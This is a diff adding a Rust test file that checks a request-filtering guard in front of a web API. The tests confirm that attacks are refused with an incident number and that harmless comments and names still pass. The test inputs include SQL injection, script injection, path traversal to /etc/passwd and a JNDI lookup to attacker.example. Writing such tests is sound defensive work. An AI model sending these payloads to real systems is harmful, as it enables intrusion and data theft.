@@ -1,0 +1,209 @@
+//! The guard in front of every route: what it stops and how it says so, and what it lets people write.
+
+use std::path::Path;
+
+use axum::body::Body;
+use axum::http::{Request, Response, StatusCode, header};
+use http_body_util::BodyExt;
+use serde_json::{Value, json};
+use server::guarding::{load, load_with};
+use tower::ServiceExt;
+
+use crate::world::{World, guard_of, serving, world};
+
+/// A release that lies beside the project, of another version than the one that Debian has.
+const BESIDE: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared/crs");
+
+/// The pack alone, with the release that the machine has, and with one beside the project.
+async fn worlds() -> Vec<World> {
+    let beside = Path::new(BESIDE).join("rules").is_dir();
+    let releases = [None, Some(""), beside.then_some(BESIDE)];
+    let mut worlds = Vec::new();
+    for (place, named) in releases.into_iter().enumerate() {
+        let loaded = match named {
+            Some(named) => load(named).unwrap(),
+            None if place == 0 => load_with(None).unwrap(),
+            None => continue,
+        };
+        let mut world = world().await;
+        world.router = serving(&world.test.app, &guard_of(loaded));
+        worlds.push(world);
+    }
+    worlds
+}
+
+async fn get(world: &World, target: &str, accept: &str) -> Response<Body> {
+    let request = Request::builder()
+        .uri(target)
+        .header(header::HOST, "localhost:8443")
+        .header(
+            header::USER_AGENT,
+            "Mozilla/5.0 (X11; Linux x86_64) Chromium/150",
+        )
+        .header(header::ACCEPT, accept)
+        .body(Body::empty())
+        .unwrap();
+    world.router.clone().oneshot(request).await.unwrap()
+}
+
+async fn text(answer: Response<Body>) -> String {
+    let bytes = answer.into_body().collect().await.unwrap().to_bytes();
+    String::from_utf8(bytes.to_vec()).unwrap()
+}
+
+/// The comment that a member writes; the guard's answer or the operation's.
+async fn comment(world: &World, words: &str) -> StatusCode {
+    let body = json!({
+        "body": { "blocks": [{ "spans": [{ "text": words }] }] },
+        "client_id": world.test.app.mint::<kernel::ids::CommentKind>().uuid(),
+    });
+    let path = format!("/api/v1/reviews/{}/comments", world.ids.review);
+    let answer = world.call(&world.owner, "POST", &path, Some(&body)).await;
+    answer.status
+}
+
+#[tokio::test]
+async fn an_attack_is_stopped_with_a_number_before_anything_else_looks_at_it() {
+    for world in &worlds().await {
+        attacks_are_stopped(world).await;
+    }
+}
+
+async fn attacks_are_stopped(world: &World) {
+    for target in [
+        "/api/v1/me?a=1%27%20UNION%20SELECT%20password%20FROM%20users--",
+        "/api/v1/me?a=%3Cscript%3Ealert(1)%3C/script%3E",
+        "/api/v1/files/..%2f..%2f..%2fetc/passwd",
+        "/api/v1/me?a=$%7Bjndi:ldap://attacker.example/a%7D",
+        "/api/v1/reviews/%00",
+        "/.git/config",
+        "/wp-login.php",
+        "/no/such/page?file=../../../../etc/passwd",
+    ] {
+        let answer = get(world, target, "application/json").await;
+        assert_eq!(answer.status(), StatusCode::FORBIDDEN, "{target}");
+        let number = answer.headers()["x-request-id"]
+            .to_str()
+            .unwrap()
+            .to_owned();
+        assert_eq!(answer.headers()["countersign-guard"], "refused");
+        assert_eq!(
+            answer.headers()[header::CONTENT_TYPE],
+            "application/problem+json"
+        );
+        let problem: Value = serde_json::from_str(&text(answer).await).unwrap();
+        assert_eq!(problem["code"], "request_stopped");
+        assert_eq!(problem["incident"], number.as_str());
+    }
+}
+
+#[tokio::test]
+async fn a_person_gets_a_page_that_says_what_to_do() {
+    let world = world().await;
+    let answer = get(
+        &world,
+        "/r/x?next=<script>alert(1)</script>"
+            .replace('<', "%3C")
+            .replace('>', "%3E")
+            .as_str(),
+        "text/html,*/*",
+    )
+    .await;
+
+    assert_eq!(answer.status(), StatusCode::FORBIDDEN);
+    let number = answer.headers()["x-request-id"]
+        .to_str()
+        .unwrap()
+        .to_owned();
+    let policy = answer.headers()[header::CONTENT_SECURITY_POLICY]
+        .to_str()
+        .unwrap()
+        .to_owned();
+    assert!(policy.contains("default-src 'none'"), "{policy}");
+    let page = text(answer).await;
+    for part in ["This request was stopped", "copy it again", number.as_str()] {
+        assert!(page.contains(part), "{part} in {page}");
+    }
+    assert!(
+        !page.contains("alert"),
+        "what was asked for is not repeated"
+    );
+}
+
+#[tokio::test]
+async fn people_write_what_they_like_in_comments_and_names() {
+    for world in &worlds().await {
+        words_pass(world).await;
+    }
+}
+
+async fn words_pass(world: &World) {
+    for words in [
+        "Drop the table of contents; alter the cover.",
+        "SELECT name FROM users WHERE id = 1 OR 1=1 --",
+        "<script>alert('hello')</script> is what the old page said",
+        "Don't use ../../assets/logo.svg",
+        "Use ${user.name} here, not {{ user }}",
+        "Let's chat at 3pm; ping me on Slack",
+        "cat /etc/passwd | grep root",
+    ] {
+        assert_eq!(comment(world, words).await, StatusCode::CREATED, "{words}");
+    }
+    for name in [
+        "../../logo.svg",
+        "Robert'); DROP TABLE students;--",
+        "<b>Spring</b>",
+    ] {
+        let path = format!("/api/v1/projects/{}", world.ids.project);
+        let answer = world
+            .call(&world.owner, "PATCH", &path, Some(&json!({ "name": name })))
+            .await;
+        assert!(answer.status.is_success(), "{name}: {answer:?}");
+    }
+}
+
+#[tokio::test]
+async fn what_has_a_form_is_looked_at_in_full() {
+    let world = world().await;
+    let body = json!({ "locale": "en", "zone": "Europe/Oslo' UNION SELECT password FROM users--", "sentence": null });
+    let path = format!("/api/v1/decisions/{}/withdraw", world.ids.review);
+    let answer = world.call(&world.owner, "POST", &path, Some(&body)).await;
+    assert_eq!(answer.status, StatusCode::FORBIDDEN);
+    assert_eq!(answer.body["code"], "request_stopped");
+}
+
+#[tokio::test]
+async fn a_body_that_cannot_be_read_or_is_too_large_says_so() {
+    let world = world().await;
+    let path = format!("/api/v1/projects/{}", world.ids.project);
+    for (body, status, code) in [
+        (
+            "{\"name\": ".to_owned(),
+            StatusCode::UNPROCESSABLE_ENTITY,
+            "malformed",
+        ),
+        (
+            format!("{}1{}", "[".repeat(200), "]".repeat(200)),
+            StatusCode::UNPROCESSABLE_ENTITY,
+            "malformed",
+        ),
+        (
+            json!({ "name": "a".repeat(300 << 10) }).to_string(),
+            StatusCode::PAYLOAD_TOO_LARGE,
+            "too_large",
+        ),
+    ] {
+        let request = Request::builder()
+            .method("PATCH")
+            .uri(&path)
+            .header(header::COOKIE, world.owner.cookie.clone().unwrap())
+            .header(header::ORIGIN, world.owner.origin.clone().unwrap())
+            .header(header::CONTENT_TYPE, "application/json")
+            .body(Body::from(body))
+            .unwrap();
+        let answer = world.router.clone().oneshot(request).await.unwrap();
+        assert_eq!(answer.status(), status);
+        let problem: Value = serde_json::from_str(&text(answer).await).unwrap();
+        assert_eq!(problem["code"], code);
+    }
+}
